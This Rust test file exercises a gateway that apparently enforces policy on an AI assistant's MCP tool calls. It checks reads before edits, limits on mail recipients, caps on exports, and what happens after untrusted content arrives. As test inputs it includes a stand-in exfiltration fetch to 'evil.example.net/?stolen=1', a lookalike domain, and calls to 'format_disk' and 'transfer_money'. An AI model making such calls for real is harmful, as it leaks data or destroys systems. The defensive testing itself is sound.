//! An assistant with 20 tools.

use chaperone_e2e::client::Request;
use serde_json::{Value, json};

use super::{Step, run, world};

fn message(method: &str, params: &Value) -> Request {
    let body = json!({ "jsonrpc": "2.0", "id": 1, "method": method, "params": params });
    super::json("/mcp", body.to_string()).header("mcp-protocol-version", "2025-06-18")
}

fn call(tool: &str, arguments: &Value) -> Request {
    message("tools/call", &json!({ "name": tool, "arguments": arguments }))
}

fn document(tool: &str, id: &str) -> Request {
    call(tool, &json!({ "id": id, "text": "new" }))
}

fn mail(to: &[&str]) -> Request {
    call("send_mail", &json!({ "to": to, "subject": "minutes", "body": "…" }))
}

fn fetch(url: &str) -> Request {
    call("fetch_url", &json!({ "url": url }))
}

#[tokio::test(flavor = "multi_thread")]
async fn assistant_uses_its_tools() {
    let world = world("mcp-gateway").await;
    let initialize =
        json!({ "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": { "name": "a", "version": "1" } });
    let steps = [
        Step("hello", message("initialize", &initialize), "permitted"),
        Step("which tools", message("tools/list", &json!({})), "permitted"),
        Step("a stream", Request::get("/mcp").header("accept", "text/event-stream"), "permitted"),
        Step("a search", call("search_documents", &json!({ "query": "minutes" })), "permitted"),
        Step("an edit of what was not read", document("edit_document", "minutes"), "forbidden"),
        Step("a read", document("read_document", "minutes"), "permitted"),
        Step("an edit of what was read", document("edit_document", "minutes"), "permitted"),
        Step("an edit of another one", document("edit_document", "payroll"), "forbidden"),
        Step("a deletion", document("delete_document", "minutes"), "step_up_required"),
        Step("mail to the team", mail(&["team@example.com"]), "permitted"),
        Step("mail to a stranger too", mail(&["team@example.com", "eve@example.net"]), "forbidden"),
        Step(
            "a recipient that is no list",
            call("send_mail", &json!({ "to": "team@example.com", "subject": "a" })),
            "undecodable",
        ),
        Step("a tool that nobody named", call("transfer_money", &json!({})), "no_permit"),
        Step("a method that MCP does not have", message("tools/run", &json!({})), "undecodable"),
    ];
    run(&world, "Assistant::ada", steps).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn untrusted_content_closes_the_way_out() {
    let world = world("mcp-gateway").await;
    let steps = [
        Step("a page", fetch("https://news.example.net/today"), "permitted"),
        Step("another page", fetch("https://evil.example.net/?stolen=1"), "step_up_required"),
        Step("a page that looks like our own", fetch("https://wiki.example.com.evil.net/"), "step_up_required"),
        Step("our own page", fetch("https://wiki.example.com/start"), "permitted"),
        Step("mail to the team", mail(&["team@example.com"]), "step_up_required"),
        Step("a search of the web", call("search_web", &json!({ "query": "secret" })), "step_up_required"),
        Step("a ticket", call("read_ticket", &json!({ "id": 7 })), "permitted"),
    ];
    run(&world, "Assistant::ada", steps).await;
    let steps = [
        Step("mail from a stranger", call("read_mail", &json!({ "id": 1 })), "permitted"),
        Step(
            "an invitation after it",
            call("create_event", &json!({ "attendees": ["ann@example.com"] })),
            "step_up_required",
        ),
    ];
    run(&world, "Assistant::ada", steps).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn exports_are_counted_and_headers_must_agree() {
    let world = world("mcp-gateway").await;
    let export = |rows: i64| call("export_customers", &json!({ "rows": rows }));
    let disagreeing = document("read_document", "minutes").header("mcp-method", "tools/list");
    let one = |id: u32, tool: &str| json!({ "jsonrpc": "2.0", "id": id, "method": "tools/call", "params": { "name": tool, "arguments": {} } });
    let batch = |tools: [&str; 2]| {
        let body = json!([one(1, tools[0]), one(2, tools[1])]).to_string();
        super::json("/mcp", body).header("mcp-protocol-version", "2025-03-26")
    };
    let steps = [
        Step("an export", export(300), "permitted"),
        Step("more than the day has left", export(201), "no_permit"),
        Step("a negative one", export(-1), "policy_error"),
        Step("the rest", export(200), "permitted"),
        Step("header and body that disagree", disagreeing, "undecodable"),
        Step("a batch", batch(["list_tickets", "list_events"]), "permitted"),
        Step("a batch with a tool that nobody named", batch(["list_tickets", "format_disk"]), "no_permit"),
    ];
    run(&world, "Assistant::ada", steps).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn assistant_that_tries_doors_is_stopped() {
    let world = world("mcp-gateway").await;
    let tries = (0..8).map(|_| Step("a door", call("format_disk", &json!({})), "no_permit"));
    let stopped = Step("what it may", call("list_tickets", &json!({})), "forbidden");
    run(&world, "Assistant::ada", tries.chain([stopped])).await;
}
